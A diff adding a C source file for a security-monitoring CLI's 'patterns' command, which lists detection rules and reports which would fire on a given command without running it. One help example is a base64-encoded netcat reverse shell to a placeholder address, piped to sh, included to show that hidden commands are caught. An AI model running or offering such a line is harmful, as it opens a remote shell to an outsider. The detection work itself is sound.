@@ -1,0 +1,196 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/* The rules about programs, and which of them would fire. Pure: no container, no root. */
+#include <errno.h>
+#include <stdio.h>
+#include <string.h>
+
+#include "audit/threat.h"
+#include "base/json.h"
+#include "base/mem.h"
+#include "base/path.h"
+#include "base/strv.h"
+#include "base/table.h"
+#include "cli/app.h"
+#include "cli/commands.h"
+#include "cli/output.h"
+#include "monitor/command.h"
+#include "monitor/detect.h"
+#include "session/monitoring.h"
+
+/* --- list */
+
+struct list {
+	struct table *table;
+	json_t *json;
+};
+
+static json_t *rule_json(const struct finding *f) {
+	return json_pack("{s:s, s:s, s:s, s:s, s:s}", "rule", f->rule, "level",
+	                 audit_level_to_string(f->level), "category",
+	                 audit_category_to_string(f->category), "title", f->title, "description",
+	                 f->description);
+}
+
+static int add_rule(const struct finding *f, void *data) {
+	const struct list *l = data;
+	const char *cells[] = { f->rule, audit_level_to_string(f->level),
+		                audit_category_to_string(f->category), f->description };
+
+	if (l->json)
+		json_array_append_new(l->json, rule_json(f));
+	else
+		table_add(l->table, cells);
+	return 0;
+}
+
+static int list_run(struct cli *cli, const void *args, struct err *err) {
+	static const char *const titles[] = { "RULE", "LEVEL", "CATEGORY", "WHAT IT FINDS", NULL };
+	struct list l = { .json = cli->json ? json_array() : NULL };
+	auto_table struct table *t = table_new(titles);
+
+	(void)args;
+	l.table = t;
+	(void)detect_each_rule(add_rule, &l);
+	if (l.json)
+		return output_document(l.json, err);
+	table_print(t, stdout);
+	return 0;
+}
+
+static const struct cli_command patterns_list = {
+	.name = "list",
+	.group = GROUP_OTHER,
+	.summary = "list the rules about programs that are run",
+	.flags = COMMAND_FORMAT,
+	.run = list_run,
+};
+
+/* --- test */
+
+/* One word is what a person would type into a shell; several are a program and its words. */
+static void make_event(struct cli *cli, char **ret_argv, struct watch_event *ret) {
+	size_t argc = cli->parsed.word_count;
+	bool is_text = argc == 1;
+
+	ret_argv[0] = (char *)"sh";
+	ret_argv[1] = (char *)"-c";
+	ret_argv[2] = cli->parsed.words[0];
+	*ret = (struct watch_event){ .kind = WATCH_EXEC, .uid = -1 };
+	ret->exec.argv = is_text ? ret_argv : cli->parsed.words;
+	ret->exec.argc = is_text ? 3 : argc;
+	ret->exec.exe = ret->exec.argv[0];
+	ret->exec.file = path_base(ret->exec.argv[0]);
+	ret->exec.comm = ret->exec.file;
+	ret->comm = ret->exec.file;
+}
+
+/* What the text comes down to, so that one sees why. */
+static char *understood(const struct command *c) {
+	autofree char *line = c->words ? strv_to_shell(c->words) : xstrdup("");
+	struct buf b;
+
+	buf_init(&b, COMMAND_WORD_MAX);
+	buf_addf(&b, "%s%s", line,
+	         c->is_unknown ? " (a name that only running it would tell)" : "");
+	for (size_t i = 0; i < c->redirect_count; i++)
+		buf_addf(&b, " %s%s", c->redirects[i].op, c->redirects[i].target);
+	return b.data;
+}
+
+static json_t *finding_json(const struct finding *f, enum audit_action action) {
+	json_t *j = rule_json(f);
+
+	json_object_set_new(j, "indicator", json_text(f->indicator));
+	json_object_set_new(j, "action", json_string(audit_action_to_string(action)));
+	return j;
+}
+
+static void show_finding(const struct finding *f, const struct monitoring_plan *plan) {
+	output_line("%s: %s (%s)", audit_level_to_string(f->level), f->title, f->rule);
+	output_line("  why: %s", f->description);
+	output_line("  in:  %s", f->indicator);
+	if (!plan->is_enabled)
+		output_line("  then: nothing, monitoring is off ([monitoring] enabled)");
+	else
+		output_line("  then: %s",
+		            audit_action_to_string(monitoring_action(plan, f->level)));
+}
+
+static void show(const struct watch_event *e, const struct findings *all,
+                 const struct monitoring_plan *plan) {
+	auto_commands struct commands c;
+
+	commands_read(&e->exec, &c);
+	output_line("It is read as:");
+	for (size_t i = 0; i < c.count; i++) {
+		autofree char *line = understood(&c.items[i]);
+
+		output_line("  %s", line);
+	}
+	for (size_t i = 0; i < c.code_count; i++)
+		output_line("  a program text: %.200s", c.codes[i].text);
+	output_line("%s", "");
+	if (!all->count)
+		output_line("No rule fires.");
+	for (size_t i = 0; i < all->count; i++)
+		show_finding(&all->items[i], plan);
+}
+
+static int test_run(struct cli *cli, const void *args, struct err *err) {
+	struct monitoring_plan plan;
+	struct findings all = { 0 };
+	struct watch_event e;
+	char *argv[4] = { NULL };
+	json_t *list;
+
+	(void)args;
+	monitoring_from_settings(cli->settings, &plan);
+	make_event(cli, argv, &e);
+	detect_exec(&e, &plan.detect, &all);
+	if (!cli->json) {
+		show(&e, &all, &plan);
+		return 0;
+	}
+	list = json_array();
+	for (size_t i = 0; i < all.count; i++)
+		json_array_append_new(
+			list,
+			finding_json(&all.items[i], monitoring_action(&plan, all.items[i].level)));
+	return output_document(list, err);
+}
+
+static const struct cli_argument test_arguments[] = {
+	{ "command", ARGUMENT_REPEATED, COMPLETE_NONE,
+	  "A line for a shell as one word, or a program and its words" },
+	{ NULL },
+};
+
+static const struct cli_example test_examples[] = {
+	{ "coi monitor patterns test 'echo bmMgLWUgc2ggMS4yLjMuNCA1Cg== | base64 -d | sh'",
+	  "what is hidden in it is found too" },
+	{ "coi monitor patterns test -- git push origin main", "ordinary work raises nothing" },
+	{ NULL },
+};
+
+static const struct cli_command patterns_test = {
+	.name = "test",
+	.group = GROUP_OTHER,
+	.summary = "say which rules a command would raise, and why",
+	.description =
+		"Nothing is run. It is shown how the command is read, which rules fire, what in "
+		"it they found, and what would be done with the settings that are in force here.",
+	.arguments = test_arguments,
+	.examples = test_examples,
+	.flags = COMMAND_CONFIG | COMMAND_FORMAT | COMMAND_INNER,
+	.run = test_run,
+};
+
+static const struct cli_command *const patterns_children[] = { &patterns_list, &patterns_test,
+	                                                       NULL };
+
+const struct cli_command cmd_monitor_patterns = {
+	.name = "patterns",
+	.group = GROUP_OTHER,
+	.summary = "the rules by which programs are judged",
+	.children = patterns_children,
+};
